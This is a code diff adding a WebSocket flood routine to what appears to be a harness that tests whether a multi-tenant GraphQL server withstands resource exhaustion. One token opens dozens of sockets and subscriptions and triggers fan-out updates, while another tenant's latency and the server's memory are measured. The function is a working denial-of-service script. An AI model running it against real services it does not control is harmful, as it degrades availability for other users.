@@ -824,3 +824,147 @@ def prepare(url: str, admin_password: str) -> Target:
     finally:
         member.close()
     return Target(url, attacker, bystander)
+
+
+# --------------------------------------------------------------------------- websocket flood
+
+VIEWER = "subscription { viewer { userId username } }"
+
+
+def rss_mb(pid: int) -> float:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) / 1024
+    return 0.0
+
+
+@dataclass
+class Flood:
+    """What one token's WebSocket flood got, and what another tenant saw meanwhile."""
+
+    sockets_asked: int
+    sockets_accepted: int
+    socket_refusals: dict[int, int]  # close code -> how many sockets
+    refusal_reasons: set[str]
+    subscriptions_asked: int
+    subscriptions_live: int
+    subscription_refusals: list[dict[str, Any]]  # the refused operations' error extensions
+    updates: int  # userUpdate mutations fanned out to every live subscription
+    baseline_ms: list[float]  # the bystander's { me { id } } before the flood (client round trip)
+    during_ms: list[float]  # ... while the fan-out ran
+    unanswered: list[str]  # bystander requests that failed
+    rss_gained_mb: float | None
+
+    @property
+    def ratio(self) -> float:
+        return statistics.median(self.during_ms) / statistics.median(self.baseline_ms)
+
+
+def _bystander_me(target: Target) -> tuple[float, str | None]:
+    started = time.perf_counter()
+    try:
+        r = _client().post(
+            target.url + "/graphql",
+            json={"query": "{ me { id } }"},
+            headers={"authorization": f"Bearer {target.bystander}"},
+        )
+        ok = r.status_code == 200 and bool(r.json()["data"]["me"]["id"])
+        failure = None if ok else f"{r.status_code} {r.text[:200]}"
+    except Exception as exc:
+        failure = repr(exc)
+    return (time.perf_counter() - started) * 1000, failure
+
+
+def websocket_flood(
+    target: Target, *, sockets: int = 60, per_socket: int = 20, updates: int = 10, pid: int | None = None
+) -> Flood:
+    """One token opens `sockets` graphql-transport-ws sockets and asks `per_socket` `viewer`
+    subscriptions on each, reading nothing further (a consumer that does not keep up); then
+    its own user is changed `updates` times (each change fans out to every live `viewer`)
+    while another tenant asks `{ me { id } }` over and over. The bystander's round trips are
+    compared with a baseline taken just before, in the same run."""
+    import websockets
+
+    url = target.url.replace("http", "ws", 1) + "/graphql"
+    baseline = [_bystander_me(target)[0] for _ in range(30)]
+    before = rss_mb(pid) if pid else None
+    me = post(target, {"query": "{ me { id } }"})
+    attacker_id = json.loads(me.text)["data"]["me"]["id"]
+
+    async def go() -> Flood:
+        opened: list[Any] = []
+        codes: dict[int, int] = {}
+        reasons: set[str] = set()
+        refusals: list[dict[str, Any]] = []
+        live = 0
+
+        async def open_one() -> None:
+            ws = await websockets.connect(url, subprotocols=["graphql-transport-ws"], open_timeout=20, max_size=None)  # type: ignore[attr-defined]
+            try:
+                await ws.send(
+                    json.dumps({"type": "connection_init", "payload": {"authorization": f"Bearer {target.attacker}"}})
+                )
+                reply = json.loads(await asyncio.wait_for(ws.recv(), 20))
+                assert reply["type"] == "connection_ack", reply
+                opened.append(ws)
+            except websockets.ConnectionClosed as closed:  # type: ignore[attr-defined]
+                code = closed.rcvd.code if closed.rcvd else 1006
+                codes[code] = codes.get(code, 0) + 1
+                reasons.add(closed.rcvd.reason if closed.rcvd else "")
+                await ws.close()
+
+        for start in range(0, sockets, 20):  # a few at a time: the client's side is one process
+            await asyncio.gather(*(open_one() for _ in range(start, min(start + 20, sockets))))
+        for n, ws in enumerate(opened):
+            for i in range(per_socket):
+                await ws.send(json.dumps({"id": f"{n}-{i}", "type": "subscribe", "payload": {"query": VIEWER}}))
+        for ws in opened:  # each subscription's first message (its state) or its refusal
+            answered = 0
+            while answered < per_socket:
+                try:
+                    reply = json.loads(await asyncio.wait_for(ws.recv(), 30))
+                except (TimeoutError, websockets.ConnectionClosed):  # type: ignore[attr-defined]
+                    break
+                if reply.get("type") == "next":
+                    live += 1
+                    answered += 1
+                elif reply.get("type") == "error":
+                    refusals.extend((e.get("extensions") or {}) for e in reply["payload"])
+                    answered += 1
+
+        during: list[float] = []
+        unanswered: list[str] = []
+        stop = threading.Event()
+
+        def probe() -> None:
+            while not stop.is_set():
+                ms, failure = _bystander_me(target)
+                during.append(ms)
+                if failure:
+                    unanswered.append(failure)
+
+        prober = threading.Thread(target=probe, daemon=True)
+        prober.start()
+        with httpx.Client(timeout=60) as admin:
+            for i in range(updates):
+                await asyncio.to_thread(
+                    admin.post,
+                    target.url + "/graphql",
+                    json={
+                        "query": "mutation($i: UserUpdateInput!) { userUpdate(input: $i) { errors { code } } }",
+                        "variables": {"i": {"id": attacker_id, "displayName": f"flood {i}"}},
+                    },
+                    headers={"authorization": f"Bearer {target.attacker}"},
+                )
+        await asyncio.sleep(2)  # the fan-out's tail
+        stop.set()
+        await asyncio.to_thread(prober.join, 60)
+        gained = rss_mb(pid) - before if pid and before is not None else None
+        for ws in opened:
+            ws.transport.abort()  # type: ignore[attr-defined]  # a closing handshake each would take long
+        return Flood(
+            sockets, len(opened), codes, reasons, len(opened) * per_socket, live, refusals, updates,
+            baseline, during, unanswered, gained,
+        )  # fmt: skip
+
+    return asyncio.run(go())
